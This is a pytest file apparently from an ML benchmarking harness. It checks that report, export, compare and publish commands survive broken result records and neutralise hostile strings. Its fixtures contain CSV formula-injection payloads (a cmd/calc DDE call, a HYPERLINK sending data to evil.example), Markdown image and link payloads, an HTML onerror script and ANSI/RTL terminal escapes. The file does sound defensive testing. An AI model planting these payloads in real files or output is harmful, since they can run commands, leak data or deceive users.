"""Hostile and broken records: a bad line costs that line (with a warning naming file:line), never the
report, an export, a comparison or the site; exports and terminal output cannot be driven by a record.

One real tiny run is made through the console entry point for the module; each test copies its run
folder and appends bad lines or rewrites model ids in the copy, then goes through the real CLI.
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
import warnings
from pathlib import Path
from typing import Any

import pytest

from harness.record.schema import CORE_SCHEMA
from harness.results.compare import compare_runs, render_rich
from harness.results.export import csv_text
from harness.results.labels import printable
from harness.results.load import load
from harness.results.markdown import md_cell
from harness.results.records import (
    RECORDS_FILE,
    RecordWarning,
    read_records,
    validate_record,
)
from harness.testing import run_suite_file

REPO = Path(__file__).resolve().parents[1]
SUITE = """\
name: tiny-hostile
datasets: [digits]
models:
  - {name: mlp, params: {epochs: 3}}
methods:
  - name: prune.magnitude
    params: {sparsity: 0.5}
backends: [{name: cpu, params: {threads: 1}}]
measure:
  batch_sizes: [1]
  warmup: {min_iters: 2, min_seconds: 0}
  repeat: {min_iters: 20, min_seconds: 0.05}
execution: {timeout_s: 120}
"""
# What an auditor appended to records.jsonl; each made report, export, compare and publish fail.
BAD_LINES = [
    '{"cell_id": "x"}',                      # KeyError: 'model'
    None,                                    # a record whose latency is a string (built from a real one)
    None,                                    # a record whose cell_id is a list
    None,                                    # a record whose started_at is NaN
    "this is not json",
    "[1, 2, 3]",
    "[" * 100_000,                           # RecursionError in json.loads
]
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\tTAB", "\rCR"]
MARKDOWN = ["![x](http://evil.example/x.png)", "[click](http://evil.example)", "<img src=x onerror=alert(1)>",
            "`code` *bold* _em_ | pipe", "see http://evil.example or www.evil.example"]
ESCAPES = ["\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "bell\x07back\x08space", "\x9b31m", "rtl\u202eexe.txt"]


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory, optbench_cache_dir: Path, optbench_runs_suites: None) -> Path:
    """One real run (baseline + a pruner, one batch size) by the runner ``optbench run`` calls."""
    root = tmp_path_factory.mktemp("hostile")
    (root / "tiny-hostile.yaml").write_text(SUITE)
    run_dir = run_suite_file(root / "tiny-hostile.yaml", root / "results", optbench_cache_dir)
    # what a real run writes passes the check untouched (every field it holds is declared with its type)
    assert [validate_record(r)[1] for r in lines(run_dir)] == [None, None]
    assert len(read_records(run_dir)) == 2
    return run_dir


def copy_run(run: Path, dest: Path) -> Path:
    shutil.copytree(run, dest)
    return dest


def lines(run: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (run / RECORDS_FILE).read_text().splitlines()]


def append_bad_lines(run: Path) -> list[int]:
    """Append BAD_LINES to the run's records.jsonl; returns their line numbers."""
    good = lines(run)
    built = {1: json.dumps({**good[0], "cell_id": "fast-one", "latency_p50_ms": "fast"}),
             2: json.dumps({**good[0], "cell_id": ["a", "list"]}),
             3: json.dumps({**good[0], "cell_id": "nan-one", "started_at": None}).replace(
                 '"started_at": null', '"started_at": NaN')}
    text = [built[i] if line is None else line for i, line in enumerate(BAD_LINES)]
    with open(run / RECORDS_FILE, "a", encoding="utf-8") as f:
        f.write("\n".join(text) + "\n")
    return list(range(len(good) + 1, len(good) + 1 + len(text)))


def rewrite_models(run: Path, names: list[str], **extra: Any) -> None:
    """Give the run's records hostile model ids (and ``extra`` fields), as a plugin or a hand edit could."""
    records = lines(run)
    rewritten = [{**r, "model": names[i % len(names)], **extra} for i, r in enumerate(records)]
    (run / RECORDS_FILE).write_text("".join(json.dumps(r) + "\n" for r in rewritten))


def cli(*args: Any) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "harness", *map(str, args)], check=False, capture_output=True,
                          text=True, cwd=REPO, timeout=120)


def warned_lines(stderr: str, records: Path) -> set[int]:
    return {int(n) for n in re.findall(re.escape(str(records)) + r":(\d+): ", stderr)}


# --- reading ---------------------------------------------------------------------------------

def test_validate_record_checks_identity_types_and_numbers() -> None:
    good = {"run_id": "r", "cell_id": "c", "model": "m", "dataset": "d", "method": "baseline", "backend": "cpu",
            "batch_size": 8, "status": "ok", "latency_p50_ms": 1.5, "accuracy": None, "flops": 10}
    assert validate_record(good) == (good, None)
    for bad, why in [({"cell_id": "x"}, "model missing"), ({**good, "cell_id": ["a"]}, "cell_id is ['a'], not text"),
                     ({**good, "batch_size": True}, "batch_size is True, not a positive integer"),
                     ({**good, "batch_size": 0}, "not a positive integer"), ({**good, "model": 3}, "model is 3"),
                     ({**good, "run_id": {"a": 1}}, "run_id is"), ([good], "not a JSON object")]:
        record, problem = validate_record(bad)
        assert record is None and why in problem, (bad, problem)
    weird = {**good, "latency_p50_ms": "fast", "accuracy": float("nan"), "speedup": float("inf"), "noisy": "yes",
             "flops": 10**400, "setup_s": True, "error": {"x": 1}, "params": "p", "extra": float("nan"), "mine": "ok"}
    record, problem = validate_record(weird)
    assert record is not None and record is not weird and weird["latency_p50_ms"] == "fast"  # a copy
    for key in ("latency_p50_ms", "accuracy", "speedup", "noisy", "flops", "setup_s", "error", "params", "extra"):
        assert record[key] is None and key in problem, key
    assert record["mine"] == "ok" and problem.endswith("(read as null)")
    numeric = set(CORE_SCHEMA.of_type("number", "integer"))
    assert {"latency_p50_ms", "accuracy", "speedup", "flops", "setup_s", "seed"} <= numeric
    assert not {"model", "status", "params", "noisy"} & numeric


def test_read_records_skips_bad_lines_with_one_warning_each(run: Path, tmp_path: Path) -> None:
    copy = copy_run(run, tmp_path / "run")
    numbers = append_bad_lines(copy)
    with pytest.warns(RecordWarning) as caught:
        records = read_records(copy)
    messages = [str(w.message) for w in caught if issubclass(w.category, RecordWarning)]
    path = str(copy / RECORDS_FILE)
    assert sorted(int(m.split(path + ":", 1)[1].split(":", 1)[0]) for m in messages) == numbers  # one per line
    by_line = dict(zip(numbers, sorted(messages, key=lambda m: int(m.split(path + ":")[1].split(":")[0])),
                       strict=True))
    assert "line skipped: model missing" in by_line[numbers[0]]
    assert "latency_p50_ms is 'fast', not a finite number (read as null)" in by_line[numbers[1]]
    assert "line skipped: cell_id is ['a', 'list'], not text" in by_line[numbers[2]]
    assert "started_at is nan, not text (read as null)" in by_line[numbers[3]]
    assert "line skipped: not JSON" in by_line[numbers[4]] and "not a JSON object (a list)" in by_line[numbers[5]]
    kept = {r["cell_id"]: r for r in records}
    assert len(records) == 4 and kept["fast-one"]["latency_p50_ms"] is None and kept["nan-one"]["started_at"] is None
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # the same unchanged file is not warned about twice in a process
        assert len(read_records(copy)) == 4
    df = load(copy)  # the notebook path reads the same way
    assert len(df) == 4 and df["latency_p50_ms"].isna().sum() == 1


# --- the CLI on a run with bad lines -----------------------------------------------------------

def test_report_export_and_compare_survive_bad_lines_and_name_them(run: Path, tmp_path: Path) -> None:
    copy = copy_run(run, tmp_path / "run")
    numbers = set(append_bad_lines(copy))
    records = copy / RECORDS_FILE
    out = cli("report", copy)
    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr[-2000:]
    assert warned_lines(out.stderr, records) == numbers
    page = (copy / "report.html").read_text()
    assert page.split("<tbody>")[1].split("</tbody>")[0].count("<tr") == 4  # 2 real rows, 2 with a field nulled
    for fmt in ("csv", "markdown"):
        out = cli("export", copy, "--format", fmt)
        assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr[-2000:]
        assert warned_lines(out.stderr, records) == numbers
    assert len(list(csv.DictReader(io.StringIO(cli("export", copy).stdout)))) == 4
    out = cli("compare", run, copy)
    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr[-2000:]
    assert warned_lines(out.stderr, records) == numbers
    assert "2 only in new" in out.stdout  # the two bad-but-usable records; the unusable ones are gone


def test_publish_skips_only_what_it_cannot_use(run: Path, tmp_path: Path) -> None:
    results = tmp_path / "results"
    good = copy_run(run, results / "tiny-hostile" / "good")
    numbers = set(append_bad_lines(good))
    all_bad = results / "tiny-hostile" / "all-bad"
    all_bad.mkdir(parents=True)
    (all_bad / RECORDS_FILE).write_text('{"cell_id": "x"}\nnot json\n')
    broken_meta = copy_run(run, results / "tiny-hostile" / "broken-meta")
    (broken_meta / "run.json").write_text("{not json")
    (broken_meta / "env.json").write_text("[1, 2]")
    for samples in (broken_meta / "cells").glob("*/samples.json"):
        samples.write_text(json.dumps({"1": ["fast", None]}))
    no_meta = copy_run(run, results / "tiny-hostile" / "no-meta")
    (no_meta / "run.json").unlink()
    (no_meta / "env.json").unlink()
    out = cli("publish", results, "--out", tmp_path / "site")
    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr[-3000:]
    assert f"{all_bad}: run skipped: no usable record in records.jsonl (first bad line 1: " in out.stderr
    assert f"{broken_meta / 'run.json'}: ignored" in out.stderr and f"{broken_meta / 'env.json'}: ignored" in out.stderr
    assert warned_lines(out.stderr, good / RECORDS_FILE) == numbers
    assert "published 3 runs of 1 suite (8 records)" in out.stderr
    assert len(list((tmp_path / "site" / "runs").glob("*/*/report.html"))) == 3


# --- what exports and the terminal get from hostile names -----------------------------------

def test_csv_export_neutralises_formulas_and_keeps_numbers(run: Path, tmp_path: Path) -> None:
    copy = copy_run(run, tmp_path / "run")
    rewrite_models(copy, FORMULAS, error="=1+1", loss_floor=-0.25)
    target = tmp_path / "out.csv"
    out = cli("export", copy, "--format", "csv", "-o", target)
    assert out.returncode == 0, out.stderr[-2000:]
    rows = list(csv.DictReader(io.StringIO(target.read_text(), newline="")))
    models = {r["model"] for r in rows}
    assert models == {"'" + FORMULAS[0], "'" + FORMULAS[1]}  # two records, the first two ids
    assert {r["error"] for r in rows} == {"'=1+1"}
    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows
               for k in ("run_id", "cell_id", "suite", "model", "method", "status", "error"))
    assert {r["loss_floor"] for r in rows} == {"-0.25"}  # a number stays a number, sign and all
    assert float(rows[0]["latency_p50_ms"]) > 0
    for text in FORMULAS:
        assert csv_text(text) == "'" + text
    assert csv_text("ok") == "ok" and csv_text(-3.5) == -3.5 and csv_text(None) is None
    assert csv_text("\x1b[2Jx") == "\\x1b[2Jx" and csv_text("a\nb") == "a\nb"
    rewrite_models(copy, FORMULAS[2:])
    assert "'@SUM(1+1)" in cli("export", copy).stdout
    import pandas as pd

    cli("export", copy, "--format", "parquet")
    assert set(pd.read_parquet(copy / "records.parquet")["model"]) == set(FORMULAS[2:4])  # raw values


def test_markdown_export_lets_no_image_link_html_or_escape_through(run: Path, tmp_path: Path) -> None:
    copy = copy_run(run, tmp_path / "run")
    rewrite_models(copy, MARKDOWN[:2], status="failed", error=MARKDOWN[2] + ESCAPES[0] + MARKDOWN[4],
                   suite="![s](http://evil.example/s.png)", run_id="`x` ![r](http://evil.example)")
    out = cli("export", copy, "--format", "markdown")
    assert out.returncode == 0, out.stderr[-2000:]
    md = out.stdout
    for bad in ("![", "<img", "\x1b", "http://", "www.evil", "`x`"):
        assert bad not in md, bad
    assert not re.search(r"(?<!\\)\]\(", md)  # no "](" whose "]" is not escaped: no link, no image
    assert "\\!\\[x\\](http\\://evil.example/x.png)" in md and "\\[click\\](http\\://evil.example)" in md
    assert "&lt;img src=x onerror=alert(1)&gt;\\\\x1b\\[2J" in md
    assert md.count("\n| ") == 4  # header, rule, two rows: nothing broke the table
    for text in MARKDOWN + ESCAPES:
        cell = md_cell(text)
        assert not re.search(r"(?<!\\)[\[\]!`*|<>]", cell) and not re.search("[\x00-\x1f\x7f-\x9f\u202e]", cell)
    assert md_cell("digits(test_fraction=0.25)") == "digits(test_fraction=0.25)"  # plain names read as written


def test_compare_output_cannot_drive_the_terminal(run: Path, tmp_path: Path) -> None:
    base = copy_run(run, tmp_path / "base")
    new = copy_run(run, tmp_path / "new")
    rewrite_models(new, ESCAPES, status="failed", error="".join(ESCAPES))
    env = json.loads((new / "env.json").read_text())
    (new / "env.json").write_text(json.dumps({**env, "torch": "\x1b[31m9.9", "plugins": {"\x1b]0;x\x07": "odd"}}))
    for args in ((), ("--markdown",)):
        out = cli("compare", base, new, *args)
        assert out.returncode == 0, out.stderr[-2000:]
        assert "\x1b" not in out.stdout and "\x07" not in out.stdout and "\u202e" not in out.stdout, args
        assert "\x1b" not in out.stderr
        assert ("\\x1b\\[2J" if args else "\\x1b[2J") in out.stdout and "broke" in out.stdout  # shown, inert
        assert "software changed: torch " in out.stdout and "\\x1b" in out.stdout.split("software changed")[1]
    from rich.console import Console

    console = Console(record=True, width=200, force_terminal=True)
    render_rich(compare_runs(base, new), console)
    text = console.export_text()  # what the content put on screen, styles aside
    assert "\x1b" not in text and "\\x1b]0;pwned\\x07" in text
    assert printable("a\x1b[2Jb\u202ec\n", keep="\n") == "a\\x1b[2Jb\\u202ec\n"
